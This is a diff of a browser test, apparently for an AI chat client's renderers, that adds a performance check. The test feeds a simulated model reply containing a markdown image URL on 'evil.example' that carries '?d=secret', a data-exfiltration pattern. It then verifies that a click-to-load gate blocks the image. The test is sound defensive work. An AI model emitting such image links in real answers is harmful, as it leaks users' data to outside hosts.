@@ -224,11 +224,15 @@ describe.skipIf(!chromiumPath)('the rich renderers under a red team in Chromium'
     await turn(answer('![chart](https://cdn.example/inline.png)'));
     await click('.acu-message button.acu-media-gate__load');
     const key = `m${turnNumber}`;
-    await turn([
+    // This turn makes the conversation 30 messages, ~1 MB of them drawn: the list becomes virtual. It starts from the
+    // heights its rows were drawn at and mounts only rows near the end (before: one 174–256 ms task, rows far up —
+    // 3,000 formulas — rendered and measured again).
+    const final = await turn([
       { type: 'text-delta', text: 'Again: ![chart](https://cdn.example/again.png)', messageKey: key },
       { type: 'message-complete', message: { role: 'model', content: [{ text: 'Again: ![chart](https://evil.example/final.png?d=secret)' }] }, messageKey: key },
       { type: 'turn-end', finishReason: 'stop' },
     ]);
+    expect(Math.max(0, ...final), `long tasks ${final.join(', ')} ms`).toBeLessThanOrEqual(LONG_TASK_BUDGET_MS);
     expect(await page.locator('.acu-message').last().locator('button.acu-media-gate__load').textContent()).toBe('Load image from evil.example');
     expect(unclicked()).toEqual([]);
     // This turn made the conversation 30 messages: the list became virtual, its rows measured as they mounted. The
